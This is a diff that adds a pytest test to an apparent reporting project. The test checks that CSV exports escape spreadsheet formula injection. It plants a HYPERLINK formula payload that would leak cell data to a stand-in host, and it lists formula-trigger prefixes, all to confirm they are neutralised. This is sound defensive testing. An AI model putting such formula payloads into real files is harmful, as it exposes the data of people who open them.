@@ -67,3 +67,28 @@ def test_hxl_csv(report_data, exported):
     unscored = data[data["probability"].astype(str) == ""]
     assert len(unscored) == len(report_data.horizons)  # missing stays empty, not "nan"
     assert set(data["low_reliability"]) <= {True, False}
+
+
+def test_spreadsheet_formulas_in_region_names_are_made_inert(report_data, tmp_path):
+    import dataclasses
+
+    from forewarn.reports import spreadsheet_safe
+
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    first = report_data.scores["region_id"].iloc[0]
+    scores = report_data.scores.copy()
+    scores.loc[scores["region_id"] == first, "name"] = hostile
+    regions = report_data.regions.copy()
+    regions.loc[first, "name"] = hostile
+    data = dataclasses.replace(report_data, scores=scores, regions=regions)
+    write_exports(data, tmp_path)
+    with open(tmp_path / "scores_hxl.csv", encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))
+    names = [r[1] for r in rows[2:]]
+    assert "'" + hostile in names and hostile not in names
+    for cell in (c for r in rows[2:] for c in r):
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+    safe = spreadsheet_safe(pd.DataFrame({"t": ["+1", "-cmd", "@SUM(A1)", "\tx", "\rx", "ok"],
+                                          "n": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0]}))
+    assert safe["t"].tolist() == ["'+1", "'-cmd", "'@SUM(A1)", "'\tx", "'\rx", "ok"]
+    assert safe["n"].tolist() == [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0]  # numbers stay numbers
